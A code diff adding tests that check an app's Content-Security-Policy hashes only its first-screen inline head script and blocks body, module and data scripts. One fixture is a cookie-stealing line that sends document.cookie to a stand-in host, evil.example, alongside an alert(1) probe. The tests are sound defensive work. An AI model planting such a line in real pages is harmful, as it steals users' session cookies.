@@ -114,3 +114,40 @@ describe('styles under CSP without unsafe-inline (SECURITY.md, decision 052)', (
     }
   });
 });
+
+describe('the first-screen script under CSP without unsafe-inline (decision 200)', () => {
+  const firstScreen = 'document.documentElement.setAttribute("data-x","1")';
+  const bodyScript = 'fetch("https://evil.example/"+document.cookie)';
+  const hash = (text: string) => `'sha256-${crypto.createHash('sha256').update(text, 'utf8').digest('base64')}'`;
+
+  it("allows the head's bare inline script by its hash, and no data block, typed script or body script", async () => {
+    const ctx = await buildTestApp();
+    try {
+      fs.writeFileSync(
+        path.join(ctx.config.webRoot, 'shell/dist/index.html'),
+        `<!doctype html><html lang=en><head><meta charset=utf-8><script>${firstScreen}</script>` +
+          `<script type="application/ld+json">{"@type":"Thing"}</script><script type=module>alert(1)</script></head>` +
+          `<body><div id=root></div><script>${bodyScript}</script></body></html>`,
+      );
+      const csp = String((await ctx.app.inject({ url: '/admin' })).headers['content-security-policy']);
+      const scriptSrc = csp.split(';').find((d) => d.startsWith('script-src '))!;
+      expect(scriptSrc.split(' ')).toEqual(['script-src', "'self'", hash(firstScreen)]);
+      expect(csp).not.toContain("'unsafe-inline'; ");
+      expect(scriptSrc).not.toContain("'unsafe-inline'");
+      expect(csp).not.toContain(hash(bodyScript));
+      expect(csp).not.toContain(hash('alert(1)'));
+    } finally {
+      await ctx.close();
+    }
+  });
+
+  it('files and JSON answers allow no inline script', async () => {
+    const ctx = await buildTestApp();
+    try {
+      const file = String((await ctx.app.inject({ url: '/main.0123456789.js' })).headers['content-security-policy']);
+      expect(file.split(';').find((d) => d.startsWith('script-src '))).toBe("script-src 'self'");
+    } finally {
+      await ctx.close();
+    }
+  });
+});
